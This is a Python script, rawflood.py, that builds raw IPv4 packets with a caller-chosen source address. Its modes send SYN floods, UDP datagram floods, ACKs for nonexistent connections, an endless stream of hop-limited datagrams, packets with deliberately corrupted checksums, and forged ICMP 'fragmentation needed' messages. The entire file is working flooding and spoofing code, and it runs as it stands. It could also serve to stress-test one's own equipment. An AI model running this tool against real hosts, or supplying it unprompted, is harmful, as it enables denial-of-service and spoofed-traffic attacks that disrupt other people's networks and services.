#!/usr/bin/env python3
"""rawflood.py - packets that no honest client sends, IPv4, by a raw socket.

    rawflood.py syns SOURCE HOST PORT COUNT        SYNs from COUNT source ports
    rawflood.py datagrams SOURCE HOST PORT COUNT   datagrams from COUNT source ports
    rawflood.py acks SOURCE HOST SECONDS           acknowledgements for flows that do not exist; prints how many
    rawflood.py hops SOURCE HOST HOPS               4 datagrams every ms with so many hops to go, without end
    rawflood.py badsums SOURCE HOST COUNT          SYNs, datagrams and pings with wrong checksums, COUNT of each
    rawflood.py lies SOURCE HOST COUNT             "fragmentation needed" about segments that nobody sent
"""
import socket, struct, sys, time


def total(data):
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack(f">{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip(source, host, proto, body, hops=64):
    # length and checksum of the header are the kernel's
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0x4000, hops, proto, 0, socket.inet_aton(source), socket.inet_aton(host)) + body


def pseudo(source, host, proto, n):
    return socket.inet_aton(source) + socket.inet_aton(host) + struct.pack(">BBH", 0, proto, n)


def tcp(source, host, sport, dport, seq, ack, flags, spoil=0):
    head = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0)
    c = total(pseudo(source, host, 6, len(head)) + head) ^ spoil
    return ip(source, host, 6, head[:16] + struct.pack(">H", c) + head[18:])


def udp(source, host, sport, dport, body, spoil=0):
    head = struct.pack(">HHHH", sport, dport, 8 + len(body), 0)
    c = (total(pseudo(source, host, 17, 8 + len(body)) + head + body) ^ spoil) or 0xFFFF
    return ip(source, host, 17, head[:6] + struct.pack(">H", c) + body)


def icmp(source, host, kind, code, word, body, spoil=0):
    head = struct.pack(">BBHI", kind, code, 0, word)
    c = total(head + body) ^ spoil
    return ip(source, host, 1, head[:2] + struct.pack(">H", c) + head[4:] + body)


def main():
    what, source, host = sys.argv[1:4]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0

    def send(packet):
        nonlocal sent
        try:
            s.sendto(packet, (host, 0))
            sent += 1
        except OSError:  # the queue is full: that is what a flood does
            pass

    if what == "syns":
        port, count = int(sys.argv[4]), int(sys.argv[5])
        for i in range(count):
            send(tcp(source, host, 1024 + i % 60000, port, i, 0, 2))
    elif what == "datagrams":
        port, count = int(sys.argv[4]), int(sys.argv[5])
        for i in range(count):
            send(udp(source, host, 1024 + i % 60000, port, b"flood"))
    elif what == "acks":
        packets = [tcp(source, host, 2000 + i, 80, i * 7919, 12345, 16) for i in range(1000)]
        end = time.monotonic() + float(sys.argv[4])
        while time.monotonic() < end:
            for p in packets:
                send(p)
    elif what == "hops":
        datagram = struct.pack(">HHHH", 2000, 33434, 8, 0)  # without a checksum
        while True:
            for _ in range(4):
                send(ip(source, host, 17, datagram, int(sys.argv[4])))
            time.sleep(0.001)
    elif what == "badsums":
        for i in range(int(sys.argv[4])):
            send(tcp(source, host, 3000 + i, 7, i, 0, 2, spoil=0x0101))
            send(udp(source, host, 3000 + i, 7, b"spoiled", spoil=0x0101))
            send(icmp(source, host, 8, 0, i, b"spoiled!", spoil=0x0101))
    elif what == "lies":
        for i in range(int(sys.argv[4])):
            quoted = tcp(host, source, 80, 4000 + i, i, 0, 16)[:28]
            send(icmp(source, host, 3, 4, 600, quoted))
    print(sent, flush=True)


main()
